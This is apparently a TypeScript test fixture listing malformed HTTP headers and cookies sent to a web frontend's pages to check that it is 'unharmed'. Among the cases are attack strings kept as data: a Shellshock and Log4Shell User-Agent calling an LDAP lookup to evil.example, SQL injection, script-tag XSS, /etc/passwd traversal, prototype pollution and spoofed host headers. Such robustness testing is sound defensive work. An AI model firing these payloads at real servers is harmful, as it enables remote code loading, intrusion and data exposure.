import { malformed, type MalformedCase, request } from '../malformed-case.ts'

const withHeaders = (name: string, headers: Record<string, string>, expected: MalformedCase['expected'] = 200) =>
  malformed(name, request('GET', '/', headers), expected)

export const headers: MalformedCase[] = [
  withHeaders('Expect that is unknown', { Expect: 'the-unexpected' }, 417),
  withHeaders('Expect of a list', { Expect: '100-continue, x' }, [200, 417]),
  withHeaders('Upgrade to another protocol', { Connection: 'close, upgrade', Upgrade: 'websocket' }),
  withHeaders('Upgrade to HTTP/2', {
    Connection: 'close, upgrade, http2-settings',
    Upgrade: 'h2c',
    'HTTP2-Settings': 'x',
  }),
  withHeaders('X-Forwarded-Host of another site', { 'X-Forwarded-Host': 'evil.example' }),
  withHeaders('Forwarded of another site', { Forwarded: 'host=evil.example;proto=https' }),
  withHeaders('X-Original-URL', { 'X-Original-URL': '/orders', 'X-Rewrite-URL': '/orders' }),
  withHeaders('X-HTTP-Method-Override', { 'X-HTTP-Method-Override': 'DELETE' }),
  withHeaders('X-Forwarded-For of words', { 'X-Forwarded-For': "' or 1=1--, <script>" }),
  withHeaders('Accept-Encoding of nonsense', { 'Accept-Encoding': 'br;q=x,,,;q=2,gzip;q=-1,*;q=' }),
  withHeaders('Accept-Encoding of 8 kB', { 'Accept-Encoding': 'x,'.repeat(4_000) }),
  withHeaders('Accept-Language of nonsense', { 'Accept-Language': '../../etc/passwd;q=zz,\xff' }),
  withHeaders('If-None-Match of nonsense', { 'If-None-Match': '",W/,"*' }),
  withHeaders('If-Modified-Since of nonsense', { 'If-Modified-Since': 'yesterday' }),
  withHeaders('Range of nonsense', { Range: 'bytes=9-1,-,x' }),
  withHeaders('User-Agent of control text', { 'User-Agent': '() { :; }; echo ${jndi:ldap://evil.example/a}' }),
  withHeaders('User-Agent of 8 kB', { 'User-Agent': 'a'.repeat(8_000) }),
  withHeaders('Referer of data:', { Referer: 'data:text/html,x' }),
  withHeaders('Authorization of nonsense', { Authorization: 'Bearer  \xff\xff' }),
  withHeaders('X-Request-Id with brackets', { 'X-Request-Id': '<script>{"a":1}' }),
  withHeaders('TE and trailers', { TE: 'trailers, deflate;q=0.5', Trailer: 'Content-Length' }),
  withHeaders('Sec-Fetch headers of nonsense', { 'Sec-Fetch-Site': 'zz', 'Sec-Purpose': 'x'.repeat(500) }),
  malformed('a range of a file', request('GET', '/assets/entry.js', { Range: 'bytes=900-1' }), [200, 206, 416]),
  malformed(
    'many ranges of a file',
    request('GET', '/assets/entry.js', { Range: `bytes=${'0-1,'.repeat(500)}0-1` }),
    [200, 206, 416],
  ),
  malformed('a body of a GET', request('GET', '/', {}, '{"a":1}'), 200),
  malformed('a body of a GET that is compressed', request('GET', '/', { 'Content-Encoding': 'gzip' }, 'xxxx'), 200),
]

const PAGES = ['/', '/cart', '/login']
const COOKIES = [
  'frontend_token=%',
  'frontend_token=%00',
  'frontend_token=a b c',
  'frontend_token="><script>alert(1)</script>',
  `frontend_token=${'a'.repeat(6_000)}`,
  'user_token=<script>',
  'user_token=%00',
  'user_token=AAA; user_token=BBB; user_token=CCC',
  'currentLanguage=../../etc',
  'currentLanguage=__proto__',
  '=;;=;',
  'a'.repeat(4_000),
  '__proto__=1; constructor=2; __proto__[polluted]=3',
  'a=b; '.repeat(1_500),
  'timeZone=../../etc/passwd; time_zone=%ff',
  'frontend_account=%E0%A4; frontend_signed_in=%',
  'social_login_started=....; social_login_started=%',
]

export const cookies: MalformedCase[] = COOKIES.flatMap((cookie) =>
  PAGES.map((page) =>
    malformed(`${page} with ${cookie.slice(0, 60)}`, request('GET', page, { Cookie: cookie }), 'unharmed'),
  ),
)
